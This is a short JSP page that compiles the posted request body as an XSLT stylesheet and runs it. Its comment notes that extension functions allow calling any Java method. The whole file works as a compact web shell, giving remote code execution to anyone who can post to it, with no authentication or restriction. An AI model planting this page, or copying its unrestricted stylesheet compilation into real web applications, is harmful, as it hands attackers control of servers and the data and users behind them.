<%@ page import="javax.xml.transform.*,javax.xml.transform.stream.*,java.io.*" %>
<%
    // the posted body is compiled as a stylesheet: XSLT extension functions call any Java method
    Transformer t = TransformerFactory.newInstance().newTransformer(new StreamSource(request.getInputStream()));
    StringWriter w = new StringWriter();
    t.transform(new StreamSource(new StringReader("<x/>")), new StreamResult(w));
    out.print(w);
%>
